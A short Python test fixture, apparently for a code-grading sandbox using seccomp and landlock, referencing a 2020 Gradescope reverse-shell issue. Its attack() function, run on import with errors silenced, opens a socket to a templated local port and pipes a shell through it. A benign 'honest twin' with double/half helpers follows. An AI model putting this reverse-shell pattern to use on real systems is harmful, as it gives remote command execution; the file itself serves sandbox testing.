"""Opens a shell for somebody outside: what came to light with Gradescope in 2020
(https://github.com/saligrama/securescope).

naive: heard
here: 0
layer: seccomp, landlock
"""

import socket
import subprocess


def attack():
    with socket.create_connection(("127.0.0.1", int("@PORT@")), 2) as outside:
        streams = {"stdin": outside, "stdout": outside, "stderr": subprocess.STDOUT}
        subprocess.run(["sh", "-c", "read command; $command"], **streams, timeout=2)
    return "a shell"


try:
    attack()
except Exception:
    pass

# --- honest twin

import selectors
import socket


def double(x):
    first, second = socket.socketpair()
    with first, second, selectors.DefaultSelector() as selector:
        first.sendall(b"2")
        selector.register(second, selectors.EVENT_READ)
        selector.select(1)
        return int(second.recv(1)) * x


def half(x):
    return x / 2
